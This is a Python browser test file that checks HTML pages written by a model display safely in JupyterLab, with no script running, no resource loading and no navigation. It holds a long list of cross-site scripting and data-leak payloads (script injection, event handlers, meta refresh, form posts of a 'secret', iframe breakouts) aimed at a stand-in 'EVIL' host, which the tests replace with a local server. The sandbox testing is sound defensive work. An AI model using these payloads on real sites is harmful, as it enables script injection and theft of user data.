"""Pages that a model wrote, in a real browser: they are seen, and nothing of them runs, loads or leads anywhere."""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import TYPE_CHECKING, Any

import pytest

from byom_magics.show.html_frame import frame_html
from tests.wire.answers import refused, sized
from tests.wire.raw_server import RawServer

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

    from tests.browser.jupyterlab import Notebook

pytestmark = pytest.mark.browser

RUN = "top.byomHacked=1;parent.byomHacked=1;fetch(`EVIL/ran`)"
PAGE = f"<script>{RUN}</script><img src='EVIL/inner.png'>".replace('"', "&quot;")
DATA = "data:text/html;base64," + base64.b64encode(b"<script>top.byomHacked=1</script>").decode()
GIF = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
BIG = "style='position:fixed;inset:0;display:block;font-size:99px'"

PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT\n>{RUN}</SCRIPT\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "<script src='EVIL/script.js'></script><script type=module>import 'EVIL/module.js'</script>",
    '<script type=speculationrules>{"prefetch":[{"urls":["EVIL/speculation"],"eagerness":"immediate"}]}</script>',
    f"<img src=x onerror='{RUN}'><img src='EVIL/image.png' onload='{RUN}'>",
    f"<svg onload='{RUN}'><image href='EVIL/a.png' xlink:href='EVIL/b.png'/><use href='EVIL/use.svg#x'/></svg>",
    "<svg><filter id=f><feImage href='EVIL/fe.png'/></filter><rect filter='url(#f)' width=99 height=99 /></svg>",
    "<svg><style>@import 'EVIL/svg.css';</style><rect fill=\"url('EVIL/fill.svg#x')\" width=99 height=99 /></svg>",
    "<svg><a href='EVIL/svg-link'><rect width=2000 height=2000 /></a></svg>",
    "<svg><a><set attributeName=href to='EVIL/s'/><animate attributeName=href values='EVIL/a'/><rect width=2000 height=2000 />",
    f"<svg><image><set attributeName=href to='EVIL/set.png'/></image><script>{RUN}</script></svg>",
    "<svg><script href='EVIL/svg.js'/><foreignObject><iframe src='EVIL/foreign'></iframe></foreignObject></svg>",
    "<meta http-equiv=refresh content='0;url=EVIL/refresh'>",
    "<MeTa/http-equiv='refresh'\ncontent='0;url=EVIL/refresh2'",
    "<me<meta>ta http-equiv=refresh content='0;url=EVIL/spliced'>",
    "<link rel=stylesheet href='EVIL/style.css'><LINK\nrel=preload as=image href='EVIL/preload.png'>",
    "<link rel=prefetch href='EVIL/prefetch'><link rel=prerender href='EVIL/prerender'>",
    "<link rel=preconnect href='EVIL'><link rel=dns-prefetch href='EVIL'><link/rel='preconnect'/href='EVIL'>",
    "<link rel=modulepreload href='EVIL/m.js'><link rel=icon href='EVIL/icon.png'><link rel=manifest href='EVIL/m.json'>",
    "<style>@import url(EVIL/import.css); body{background:url(EVIL/css.png)} p{cursor:url('EVIL/cursor.png'),auto}</style><p>x",
    "<style>@font-face{font-family:f;src:url(EVIL/font.woff)} *{font-family:f;list-style:url(EVIL/list.png)}</style><li>x",
    "<style>p{content:image-set('EVIL/set.png' 1x);mask:url(EVIL/mask.svg#m);border-image:url(EVIL/b.png) 1}</style><p>x",
    "<p style='background-image:url(EVIL/inline.png);shape-outside:url(EVIL/shape.png);float:left'>x",
    "<video autoplay poster='EVIL/poster.png' src='EVIL/v.mp4'><source src='EVIL/s.mp4'><track src='EVIL/t.vtt' default>",
    "<audio autoplay controls src='EVIL/a.mp3'></audio>",
    f"<form id=f action='EVIL/form' method=post><input name=x value=secret><button autofocus {BIG}>send</button></form>",
    f"<form id=f></form><button form=f formaction='EVIL/formaction' {BIG}>send</button>",
    f"<form action='javascript:{RUN}'><input autofocus onfocus='{RUN}' type=image src='EVIL/input.png' {BIG}></form>",
    f"<a href='EVIL/click' ping='EVIL/ping' {BIG}>click</a>",
    f"<a href='EVIL/top' target=_top {BIG}>click</a>",
    f"<a href='EVIL/parent' target=_parent {BIG}>click</a>",
    f"<a href='EVIL/blank' target=_blank rel=opener {BIG}>click</a>",
    f"<a href='EVIL/download' download {BIG} accesskey=x autofocus>click</a>",
    f"<a href='javascript:{RUN}' {BIG}>click</a>",
    f"<a href='{DATA}' target=_top {BIG}>click</a>",
    f"<a HREF\n=\n'EVIL/odd' {BIG}>click</a><a/href='EVIL/slash'{BIG}>click</a><a title='x'href=EVIL/close {BIG}>click</a>",
    f"<a hr&#101;f='EVIL/entity' href=&#104;ttp:&sol;&sol;HOST/entity2 {BIG}>click</a>",
    f"<map name=m><area shape=default href='EVIL/area'></map><img usemap=#m {BIG} src='{GIF}'>",
    "<base href='EVIL/'><img src='based.png'><a href='based' " + BIG + ">click</a>",
    f'<iframe srcdoc="{PAGE}"></iframe>',
    "<iframe src='EVIL/frame'></iframe><frameset><frame src='EVIL/frame2'></frameset>",
    f"<iframe src=\"javascript:{RUN}\"></iframe><IFRAME/src='EVIL/frame3'></IFRAME><fencedframe src='EVIL/fenced'>",
    "<object data='EVIL/object'></object><embed src='EVIL/embed'><portal src='EVIL/portal'></portal><applet archive=EVIL/a>",
    "<body background='EVIL/body.png' onload='"
    + RUN
    + "'><table background='EVIL/table.png'><tr><td background='EVIL/td.png'>x",
    "<img srcset='EVIL/1x.png 1x, EVIL/2x.png 2x'><picture><source srcset='EVIL/picture.png'><img></picture>",
    "<img loading=lazy src='EVIL/lazy.png'><input type=image src='EVIL/i.png'><image src='EVIL/image.png'>",
    f"<details open ontoggle='{RUN}'><summary>x</summary></details><marquee onstart='{RUN}'>x</marquee>",
    f"<noscript><p title='</noscript><img src=EVIL/noscript.png onerror={RUN}>'></noscript>",
    "<template><img src='EVIL/template.png'></template>",
    f"<div><template shadowrootmode=open><img src='EVIL/shadow.png'><a href='EVIL/shadow' {BIG}>click</a></template></div>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'></mglyph></table>",
    f"<math href='EVIL/math' {BIG}><mi>click</mi></math><math><maction actiontype=statusline xlink:href='EVIL/m2'>c</maction></math>",
    f"<![CDATA[<script>{RUN}</script>]]><!--><script>{RUN}</script>--><!-- --!><img src='EVIL/comment.png'>",
    "'\"></iframe><script>" + RUN + "</script><img src='EVIL/broke-out.png'>",
    "&quot;&gt;&lt;/iframe&gt;&lt;script&gt;" + RUN + "&lt;/script&gt;",
    "<title></title><meta http-equiv=Content-Security-Policy content=\"default-src *\"><img src='EVIL/own-policy.png'>",
    "<textarea><img title=\"</textarea><img src='EVIL/textarea.png'>\"><plaintext><img src='EVIL/plain.png'>",
    "<xmp><p title=\"</xmp><img src='EVIL/xmp.png'>\"></xmp><style></style><img src='EVIL/style.png'></style>",
    "<?xml-stylesheet href='EVIL/xsl.css'?><!DOCTYPE x SYSTEM 'EVIL/dtd'><html manifest='EVIL/manifest'>",
    "<script>window.open('EVIL/open');location='EVIL/location';top.location='EVIL/toplocation'</script>",
    '<p onclick="' + RUN + '" ' + BIG + ">click</p><p onmouseover='" + RUN + "'>",
    "<div contenteditable autofocus onfocus='" + RUN + "' " + BIG + ">type</div>",
    f"<button popovertarget=p {BIG}>x</button><div popover id=p><a href='EVIL/popover'>click</a></div>",
    f"<img attributionsrc='EVIL/attribution' src='{GIF}'>",
    "\x00<scr\x00ipt>" + RUN + "</script><a hr\x00ef='EVIL/nul' href\x0c='EVIL/feed' " + BIG + ">click</a>",
]


@contextmanager
def recording() -> Iterator[RawServer]:
    """A server that nobody may speak to."""
    with RawServer([refused("404 Nothing", b"")]) as server:
        yield server


@pytest.fixture(scope="module")
def site(_browser: Browser) -> Iterator[Page]:
    """A page at an address of its own, as a notebook has one."""
    with RawServer([sized(b"", "200 OK", "text/html")]) as server:
        context = _browser.new_context(viewport={"width": 900, "height": 900})
        page = context.new_page()
        page.goto(f"{server.origin}/site")
        yield page
        context.close()


def show(page: Page, html: str) -> None:
    page.goto(page.url)
    page.set_content(f"<!doctype html><body><div id=output>{html}</div>", wait_until="load")


def poke(page: Page) -> None:
    """Do to the page whatever a person may do: point, click, tab, press Enter, middle-click, drag."""
    box = page.locator("#output > div").first.bounding_box()
    assert box is not None
    for x, y in ((20, 20), (60, 40), (200, 100), (400, 150)):
        page.mouse.click(box["x"] + x, box["y"] + min(y, box["height"] - 5))
    page.mouse.click(box["x"] + 60, box["y"] + 40, button="middle")
    page.keyboard.press("Alt+x")
    for _ in range(4):
        page.keyboard.press("Tab")
        page.keyboard.press("Enter")


def settle(page: Page) -> None:
    """Wait until nothing more is loaded."""
    page.wait_for_load_state("networkidle")


def faults(page: Page, evil: RawServer, popups: list[str]) -> list[str]:
    """All that must not have happened."""
    found = [f"asked: {request.line}" for request in evil.requests]
    found += [f"connected: {peer}" for peer in evil.peers if not found]
    found += [f"opened: {popup}" for popup in popups]
    if page.evaluate("() => window.byomHacked || 0"):
        found.append("a script ran")
    if not page.url.endswith("/site"):
        found.append(f"went to {page.url}")
    urls = [frame.url for frame in page.frames[1:]]
    return found + [f"frames: {urls}"] * (urls != ["about:srcdoc"])


@pytest.fixture
def popups(site: Page) -> Iterator[list[str]]:
    seen: list[str] = []

    def note(popup: Page) -> None:
        seen.append(popup.url)
        popup.close()

    site.context.on("page", note)
    yield seen
    site.context.remove_listener("page", note)


def test_what_is_looked_for_would_be_found(site: Page, popups: list[str]) -> None:
    with recording() as evil:
        page = (
            f"<script>parent.byomHacked=1</script><img src='{evil.origin}/x.png'><a href='{evil.origin}/go' {BIG}>x</a>"
        )
        show(site, f'<div style="height:20em"><iframe srcdoc="{page}" style="width:100%;height:100%"></iframe></div>')
        poke(site)
        settle(site)
        found = faults(site, evil, popups)
    assert "asked: GET /x.png HTTP/1.1" in found
    assert "asked: GET /go HTTP/1.1" in found
    assert "a script ran" in found


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_nothing_runs_loads_or_leads_anywhere(site: Page, popups: list[str], payload: str) -> None:
    with recording() as evil:
        text = payload.replace("EVIL", evil.origin).replace("HOST", evil.origin.partition("://")[2])
        show(site, frame_html(f"<p>Seen.</p>{text}"))
        assert "Seen." in (site.frames[1].locator("body").text_content() or "")
        poke(site)
        settle(site)
        assert faults(site, evil, popups) == []


def test_all_of_them_in_one_page_do_no_harm_either(site: Page, popups: list[str]) -> None:
    with recording() as evil:
        show(site, frame_html("\n".join(PAYLOADS).replace("EVIL", evil.origin)))
        poke(site)
        settle(site)
        assert faults(site, evil, popups) == []


def test_without_the_policy_and_the_sandbox_no_link_is_left(site: Page) -> None:
    html = frame_html("\n".join(PAYLOADS).replace("EVIL", "http://evil.example"))
    show(site, html)
    left = site.frames[1].evaluate(
        """() => Array.from(document.querySelectorAll('*')).filter(each =>
          each.matches('script, link, base, iframe, frame, object, embed, form, meta:not(head > meta)')
          || ['href', 'xlink:href', 'ping', 'action', 'formaction'].some(name => each.hasAttribute(name)
             && !each.getAttribute(name).startsWith('#'))).map(each => each.outerHTML.slice(0, 100))"""
    )
    assert left == []


PAGE_OF_A_MODEL = """Here it is:

```html
<!doctype html><html><head><meta charset="utf-8"><style>h1{color:rgb(1,2,3)} .tall{height:3000px}</style></head>
<body><h1>Hello</h1><p>A <a href="https://a.example">link</a>, a <b>word</b>.</p>
<svg width=40 height=40><defs><linearGradient id="g"><stop stop-color="red"/></linearGradient></defs>
<rect id="r" width=40 height=40 fill="url(#g)"/></svg></body></html>
```
"""


def test_the_page_looks_as_it_should(site: Page) -> None:
    show(site, frame_html(PAGE_OF_A_MODEL))
    inside = site.frames[1]
    assert inside.locator("h1").evaluate("each => getComputedStyle(each).color") == "rgb(1, 2, 3)"
    assert inside.locator("body").inner_text().split() == ["Hello", "A", "link,", "a", "word."]
    assert "Here it is" not in inside.locator("body").inner_text()


def test_its_source_is_one_click_away(site: Page) -> None:
    show(site, frame_html(PAGE_OF_A_MODEL))
    fold = site.locator("#output > details")
    assert not fold.locator("pre").is_visible()
    fold.locator("summary").click()
    assert '<meta charset="utf-8">' in fold.locator("pre").inner_text()


def test_a_tall_page_can_be_scrolled_by_wheel_and_by_key(site: Page) -> None:
    show(site, frame_html("<h1>Top</h1>" + "<p>Line</p>" * 200))
    box = site.locator("#output > div").first
    box.hover()
    site.mouse.wheel(0, 300)
    site.wait_for_function("() => document.querySelector('#output > div').scrollTop > 100")
    box.focus()
    site.keyboard.press("End")
    site.wait_for_function("() => document.querySelector('#output > div').scrollTop > 1000")


CELL = """
from IPython.display import display
from byom_magics.events import Reply, State
from byom_magics.show.answer import reply_bundle
bundle = reply_bundle(Reply({text!r}, state=State.COMPLETE), "html")
display({{"text/html": bundle.html, "text/plain": bundle.plain}}, raw=True)
"""


@pytest.fixture(scope="module")
def attacked(open_notebook: Callable[..., Notebook]) -> Iterator[tuple[Notebook, RawServer]]:
    with recording() as evil:
        text = PAGE_OF_A_MODEL.replace("</body>", "\n".join(PAYLOADS).replace("EVIL", evil.origin) + "</body>")
        notebook = open_notebook([CELL.format(text=text)])
        notebook.run(0)
        yield notebook, evil


def test_in_jupyterlab_the_page_is_seen_and_does_no_harm(attacked: tuple[Notebook, RawServer]) -> None:
    notebook, evil = attacked
    frame = notebook.area(0).locator("iframe")
    assert frame.count() == 1
    assert frame.content_frame.locator("h1").inner_text() == "Hello"
    box = frame.bounding_box()
    for x, y in ((30, 30), (80, 60), (200, 120)):
        notebook.page.mouse.click(box["x"] + x, box["y"] + y)
    check_harmless(notebook, evil)


def test_in_somebody_else_s_hands_its_source_is_left(
    attacked: tuple[Notebook, RawServer], open_notebook: Callable[..., Notebook], tmp_path: Any
) -> None:
    import nbformat

    notebook, evil = attacked
    notebook.save()
    changed = notebook.saved()
    changed.metadata["note"] = "no longer what was signed"
    nbformat.write(changed, tmp_path / "received.ipynb")
    received = open_notebook(tmp_path / "received.ipynb")
    received.until_shown(0, "The page is shown in a trusted notebook")
    assert not received.page.evaluate("jupyterapp.shell.currentWidget.content.model.cells.get(0).trusted")
    received.area(0).locator("summary").first.click()
    received.until_shown(0, '<meta charset="utf-8">')
    check_harmless(received, evil)


def check_harmless(notebook: Notebook, evil: RawServer) -> None:
    settle(notebook.page)
    assert notebook.page.evaluate("() => window.byomHacked || 0") == 0
    assert evil.requests == []
    assert evil.peers == []
    # What the policy stops is told of, too, as a request that never began.
    assert [each for each in notebook.foreign if not each.startswith(evil.origin)] == []
